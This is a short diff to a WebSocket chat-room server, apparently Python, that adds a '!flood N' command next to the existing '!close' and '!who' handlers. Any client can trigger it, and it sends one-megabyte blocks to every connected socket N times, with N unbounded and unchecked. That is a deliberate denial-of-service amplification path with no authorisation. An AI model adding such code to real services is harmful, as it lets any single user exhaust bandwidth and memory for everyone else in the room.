@@ -43,6 +43,12 @@ class Room(DO):
         if message == "!close":
             ws.close(4000, "asked to")
             return
+        if isinstance(message, str) and message.startswith("!flood "):  # a megabyte a message, to every socket
+            block = b"x" * ((1 << 20) - 64)
+            for _ in range(int(message.split()[1])):
+                for other in self.get_websockets("room"):
+                    other.send(block)
+            return
         if message == "!who":
             ws.send(",".join(sorted(self.get_tags(s)[1] for s in self.get_websockets("room"))))
             return
